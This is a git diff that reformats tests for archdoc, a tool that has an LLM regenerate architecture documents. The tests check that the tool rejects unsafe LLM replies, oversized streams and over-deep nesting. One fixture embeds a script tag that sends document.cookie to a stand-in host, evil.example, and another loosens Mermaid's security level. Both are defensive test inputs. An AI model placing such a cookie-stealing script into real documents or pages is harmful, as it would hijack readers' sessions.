@@ -13,7 +13,10 @@ import { GOOD_DOC, REQUIREMENTS } from './fixtures.js';
 const KEY = 'sk-test-UNSAFE-GATE-0123456789';
 const server = useFakeLlm();
 
-const SCRIPT_DOC = GOOD_DOC.replace('## 2. Container Architecture', 'See the <script>fetch("https://evil.example/?k="+document.cookie)</script> notes.\n\n## 2. Container Architecture');
+const SCRIPT_DOC = GOOD_DOC.replace(
+  '## 2. Container Architecture',
+  'See the <script>fetch("https://evil.example/?k="+document.cookie)</script> notes.\n\n## 2. Container Architecture',
+);
 const INIT_DOC = GOOD_DOC.replace('```mermaid\nC4Context', '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\nC4Context');
 const CLICK_DOC = GOOD_DOC.replace(
   '## 4. API Design Strategy',
@@ -28,7 +31,14 @@ const UNSAFE: [string, string, RegExp][] = [
 
 function propose(s: FakeLlm, extra: Partial<ProposeOptions> = {}, provider = 'openai') {
   return proposeRegeneration({
-    llm: { provider, model: 'test-model', apiKey: KEY, baseUrl: provider === 'anthropic' ? s.anthropicBaseUrl : s.openaiBaseUrl, env: {}, retry: recordRetries().retry },
+    llm: {
+      provider,
+      model: 'test-model',
+      apiKey: KEY,
+      baseUrl: provider === 'anthropic' ? s.anthropicBaseUrl : s.openaiBaseUrl,
+      env: {},
+      retry: recordRetries().retry,
+    },
     template: 'architecture',
     readTemplate: () => {
       throw new Error('built-in template: nothing to read');
@@ -79,13 +89,15 @@ describe.each(UNSAFE)('a reply with %s', (_name, reply, finding) => {
 
 describe.each(['openai', 'anthropic'])('an oversized reply over %s', (provider) => {
   test('a 12 MB answer is refused as it streams, with a clear message, and never fully read', async () => {
-    const huge = `${GOOD_DOC}\n${'padding line of an endless document\n'.repeat(12 * 1024 * 1024 / 36)}`;
+    const huge = `${GOOD_DOC}\n${'padding line of an endless document\n'.repeat((12 * 1024 * 1024) / 36)}`;
     server().reply({ text: huge, chunkBytes: 64 * 1024 });
     const r = await propose(server(), { rules: { 'unsafe-content': 'off' } }, provider);
     expect(r.status).toBe('failed');
     expect(r.text).toBeUndefined();
     expect(r.error?.kind).toBe('bad-response');
-    expect(r.reason).toMatch(new RegExp(`the reply is larger than ${MAX_RESPONSE_BYTES / 1024 / 1024} MB, the most archdoc reads from an LLM.*nothing was written`));
+    expect(r.reason).toMatch(
+      new RegExp(`the reply is larger than ${MAX_RESPONSE_BYTES / 1024 / 1024} MB, the most archdoc reads from an LLM.*nothing was written`),
+    );
     expect(r.reason.split('\n')).toHaveLength(1);
     // The server saw the client hang up long before the end.
     const sent = server().requests[0].response;
@@ -95,7 +107,7 @@ describe.each(['openai', 'anthropic'])('an oversized reply over %s', (provider) 
   });
 });
 
-describe('a reply beyond archdoc\'s structural limits', () => {
+describe("a reply beyond archdoc's structural limits", () => {
   test('is sent back naming the limit, and a good answer after it is accepted', async () => {
     const deep = GOOD_DOC.replace('## 2. Container Architecture', `${'>'.repeat(50_000)} quoted\n\n## 2. Container Architecture`);
     server().reply({ text: deep }, { text: GOOD_DOC });
